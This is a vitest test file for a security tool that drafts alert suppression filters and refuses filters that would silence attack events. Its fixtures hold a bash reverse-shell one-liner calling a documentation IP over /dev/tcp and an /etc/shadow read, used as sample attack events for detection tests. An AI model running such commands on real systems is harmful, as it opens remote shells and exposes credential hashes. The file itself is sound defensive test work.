import { expect, test } from "vitest";
import { makeRule } from "../support/make-rule.ts";
import { makeAlert, makeTenant, NOW } from "../support/make-tenant.ts";
import { startTools } from "../support/start-tools.ts";

const MINE = "aaaaaaaa-cb87-41ea-b55e-4f5cfb08a8d1";
const AGAIN = "bbbbbbbb-cb87-41ea-b55e-4f5cfb08a8d1";
const ATTACK = "cccccccc-cb87-41ea-b55e-4f5cfb08a8d1";
const RULE = "dddddddd-cb87-41ea-b55e-4f5cfb08a8d1";
const RULESET = "eeeeeeee-cb87-41ea-b55e-4f5cfb08a8d1";

const borg = (index: number, fields: object = {}) => ({
  _id: `${String(index).padStart(8, "0")}-0000-4000-8000-000000000000`,
  event_type: "audit",
  type: "start",
  user: "backup",
  exe: "/usr/local/bin/borg",
  arguments: "borg create /srv/repo::nightly",
  tty: null,
  pid: 1000 + index,
  timestamp: NOW - index * 1000,
  ...fields,
});
/** Another word for each number: digits are taken for what changes each time. */
const wordOf = (index: number): string =>
  [17_576, 676, 26, 1]
    .map((unit) => String.fromCharCode(97 + (Math.floor(index / unit) % 26)))
    .join("");
const shell = (index: number) =>
  borg(index, { exe: "/bin/bash", arguments: "bash -i >& /dev/tcp/198.51.100.4/443 0>&1" });

const alerts = [MINE, AGAIN, ATTACK].map((id) =>
  makeAlert({ id, ruleId: RULE, rulesetId: RULESET }),
);
const rules = [makeRule({ id: RULE, rulesetId: RULESET, suppressions: ['user = "nobody"'] })];
const rulesets = [
  {
    id: RULESET,
    name: "Base",
    description: "",
    createdAt: "2026-01-01T00:00:00.000Z",
    updatedAt: "2026-01-01T00:00:00.000Z",
    rules: [RULE],
  },
];
const tenant = makeTenant({
  alerts,
  rules,
  rulesets,
  events: {
    [MINE]: [borg(1), borg(2), shell(3)],
    [AGAIN]: [borg(4)],
    [ATTACK]: [shell(5)],
  },
});
const TOOL = "threatstack_draft_suppression";
const mine = { alert_id: MINE, where: 'exe = "/usr/local/bin/borg"' };

test("offers proven filters, what each does to the alerts of the rule, and the call", async () => {
  const { call } = await startTools({ tenant });

  const { text, meta } = await call(TOOL, mine);

  expect(text).toMatchInlineSnapshot(`
    "3 suppressions for rule dddddddd: narrow to broad, each matches all 2 chosen events (of 3), and nothing protected in the 3 alerts looked at
    <data>
    1 narrow: user = "backup" and exe = "/usr/local/bin/borg" and type = "start" and tty = null and arguments = "borg create /srv/repo::nightly"
      also silences 1 event like them in 1 other alert; alerts before 3, after 2
    2 middle: user = "backup" and exe = "/usr/local/bin/borg" and type = "start" and arguments starts_with "borg create /srv/repo::nightly"
      also silences 1 event like them in 1 other alert; alerts before 3, after 2
    3 broad: user = "backup" and exe = "/usr/local/bin/borg"
      also silences 1 event like them in 1 other alert; alerts before 3, after 2
    call: threatstack_update_suppressions ruleset_id="eeeeeeee-cb87-41ea-b55e-4f5cfb08a8d1" rule_id="dddddddd-cb87-41ea-b55e-4f5cfb08a8d1" add=["user = \\"backup\\" and exe = \\"/usr/local/bin/borg\\" and type = \\"start\\" and tty = null and arguments = \\"borg create /srv/repo::nightly\\""]
    </data>
    looked at: this alert and the 2 newest others of its rule
    protected there: attack behaviour that was not chosen; in other alerts also acts unlike the chosen ones, or from other machines
    to record: owner=?, reason=?, review=2026-05-31
    next: an analyst decides; with --allow-writes the call puts filter 1 on the rule (the console does it too), which acts after 10 to 15 minutes"
  `);
  expect(meta).toMatchObject({ total: 3, shown: 3, truncated: false });
});

test.each([2000, 500, 300, 200])(
  "holds to %i tokens and names what is left out",
  async (max_tokens) => {
    const { call } = await startTools({ tenant });

    const { text, tokens, meta } = await call(TOOL, { ...mine, max_tokens });

    expect(tokens).toBeLessThanOrEqual(max_tokens);
    expect(text).toMatch(/^3 suppressions for rule dddddddd/);
    expect(text).toMatch(/^1 narrow: user = "backup" and exe = "/m);
    expect(meta.truncated).toBe(text.includes("left out: "));
  },
);

test("a filter that sweeps up an attack is refused, with the event and its technique", async () => {
  const { call } = await startTools({ tenant });

  const { text } = await call(TOOL, { alert_id: MINE, where: 'user = "backup"' });

  expect(text).toMatch(/^no suppression: 1 of the 3 chosen events show attack behaviour/);
  expect(text).toMatch(/^T1[\d.]+ .*: 1×, event 00000003, group g\d+$/m);
});

test("an attack that a person vouches for by its id is told as what it is", async () => {
  const { call } = await startTools({ tenant });

  const { text } = await call(TOOL, { alert_id: MINE, event_ids: ["00000003"] });

  expect(text).toMatch(
    /^caution: 1 of the chosen events show attack behaviour, T1[\d.]+ \(event 00000003\)/m,
  );
  expect(text).toMatch(/^1 suppression for rule dddddddd: it matches/);
  expect(text).toContain("like them in 1 other alert (1 with the same attack behaviour)");
});

test("each technique that is vouched for is named, not the first alone", async () => {
  const hashes = borg(6, { event_type: "file", type: "open", filename: "/etc/shadow" });
  const events = { [MINE]: [shell(3), shell(4), hashes] };
  const { call } = await startTools({ tenant: makeTenant({ alerts, rules, rulesets, events }) });
  const event_ids = ["00000003", "00000004", "00000006"];

  const { text } = await call(TOOL, { alert_id: MINE, event_ids });

  expect(text).toMatch(
    /^caution: 3 of the chosen .*, T1059\.004 \(event 00000003\), T1003\.008 \(event 00000006\):/m,
  );
});

async function draftOfAll(list: readonly object[]): Promise<string> {
  const events = { [MINE]: list };
  const { call } = await startTools({ tenant: makeTenant({ alerts, rules, rulesets, events }) });
  return (await call(TOOL, { alert_id: MINE, where: 'user = "backup"' })).text;
}

test("more kinds of events than can be judged are refused, and an attack that comes last is named", async () => {
  const kinds = Array.from({ length: 4200 }, (_, index) =>
    borg(10 + index, { exe: `/opt/x/job${wordOf(index)}`, arguments: `job${wordOf(index)}` }),
  );
  expect(await draftOfAll(kinds)).toMatch(
    /^no suppression: the chosen events are of more than 4,096 kinds/,
  );
  expect(await draftOfAll([...kinds, shell(3)])).toMatch(
    /^no suppression: 1 of the 4,201 chosen events show attack behaviour/,
  );
});

test("an alert without events counts as looked at", async () => {
  const events = { [MINE]: [borg(1)], [AGAIN]: [borg(4)] };
  const { call } = await startTools({ tenant: makeTenant({ alerts, rules, rulesets, events }) });

  const { text } = await call(TOOL, mine);

  expect(text).toMatch(/looked at: this alert and the \d newest others of its rule/);
});

test("a suppression that the rule has already is named", async () => {
  const suppressed = [
    makeRule({ id: RULE, rulesetId: RULESET, suppressions: ["bad (", 'user = "backup"'] }),
  ];
  const events = { [MINE]: [borg(1)] };
  const { call } = await startTools({
    tenant: makeTenant({ alerts, rules: suppressed, rulesets, events }),
  });

  const { text } = await call(TOOL, mine);

  expect(text).toContain("note: suppression 2 of the rule matches all chosen events already");
});

test("a secret in a command line is in no filter", async () => {
  const secret = "hunter2hunter2";
  const events = { [MINE]: [borg(1, { arguments: `borg create --password ${secret} /srv/repo` })] };
  const { call } = await startTools({ tenant: makeTenant({ alerts, rules, rulesets, events }) });

  const { text } = await call(TOOL, mine);

  expect(text).toContain("left out of arguments");
  expect(text).not.toContain(secret);
  expect(text).not.toContain("redacted");
});

test("an address stays as it is in a filter, whoever's it is", async () => {
  const agents = [
    {
      id: "1a0b0f28-0e11-11f1-a123-99cdd68cb066",
      status: "online" as const,
      createdAt: "2026-01-01T00:00:00.000Z",
      lastReportedAt: "2026-01-01T00:00:00.000Z",
      version: "3.1.0",
      hostname: "scanner",
      agentType: "investigate" as const,
      ipAddresses: { private: ["10.1.2.3"], link_local: [], public: [] },
    },
  ];
  const events = { [MINE]: [borg(1, { type: "accept", src_ip: "10.1.2.3" })] };
  const { call } = await startTools({
    tenant: makeTenant({ alerts, rules, rulesets, agents, events }),
  });

  const { text } = await call(TOOL, { ...mine, allow: ["src_ip"] });

  expect(text).toMatch(/src_ip = "10\.1\.2\.3"( and|$)/m);
});

test("reads a bounded number of alerts of the rule and says how many it did not", async () => {
  const ids = Array.from(
    { length: 40 },
    (_, index) => `${String(index + 10)}aaaaaa-cb87-41ea-b55e-4f5cfb08a8d1`,
  );
  const many = makeTenant({
    alerts: [MINE, ...ids].map((id) => makeAlert({ id, ruleId: RULE, rulesetId: RULESET })),
    rules,
    rulesets,
    events: Object.fromEntries([MINE, ...ids].map((id, index) => [id, [borg(index)]])),
  });
  const { call, requests } = await startTools({ tenant: many });

  const { text } = await call(TOOL, mine);

  expect(text).toContain(
    "looked at: this alert and the 20 newest others of its rule; 20 further ones were not",
  );
  expect(requests()).toBeLessThanOrEqual(26);
});

test.each([
  [{ alert_id: MINE }, "where, group or event_ids is needed"],
  [{ ...mine, group: "g123" }, "give one of where, group and event_ids"],
  [{ ...mine, allow: ["event_time"] }, "times and ids of events silence nothing"],
  [
    { alert_id: MINE, event_ids: Array.from({ length: 101 }, (_, id) => `event-${String(id)}`) },
    "event_ids takes at most 100",
  ],
  [{ alert_id: MINE, where: "user contains 1" }, "where, character 6"],
])("wrong arguments %# are refused", async (input, message) => {
  const { call } = await startTools({ tenant });

  await expect(call(TOOL, input)).rejects.toThrow(message);
});
